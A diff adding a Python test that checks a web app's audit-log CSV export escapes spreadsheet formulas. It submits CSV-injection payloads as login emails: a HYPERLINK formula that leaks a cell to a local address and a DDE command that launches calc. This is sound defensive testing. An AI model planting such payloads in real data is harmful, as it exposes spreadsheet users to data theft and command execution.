@@ -11,7 +11,7 @@ from typing import Any
 import sqlalchemy as sa
 from starlette.testclient import TestClient
 
-from support.web import sign_in
+from support.web import csrf_token, sign_in
 from webapp.core.db import Database
 from webapp.core.models import AuditEvent, ErrorRecord, utcnow
 from webapp.services.logs import EXPORT_BATCH, PAGE_SIZE
@@ -73,6 +73,18 @@ def test_audit_filters_and_csv_export(client: TestClient, database: Database, pe
     ids = [int(r[0]) for r in rows[1:]]
     assert ids == sorted(ids) and len(set(ids)) == len(ids), "oldest first, once each"
     assert json.loads(rows[1][6])["note"] == 'comma, "quote"'
+
+
+def test_the_csv_export_never_writes_a_formula(client: TestClient, people: dict[str, Any]) -> None:
+    """A failed sign-in records the email as typed; a spreadsheet must show it, not run it."""
+    hostile = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"open")'
+    for email in (hostile, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tline", "plain@example.com"):
+        client.post("/login", data={"email": email, "password": "wrong password!", "csrf_token": csrf_token(client)})
+    admin(client)
+    rows = list(csv.reader(io.StringIO(client.get("/audit.csv?action=auth.sign_in_failed").text)))
+    actors = {row[2] for row in rows[1:]}
+    assert "'" + hostile.lower() in actors and "plain@example.com" in actors
+    assert not [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_the_logs_are_for_admins(client: TestClient, people: dict[str, Any]) -> None:
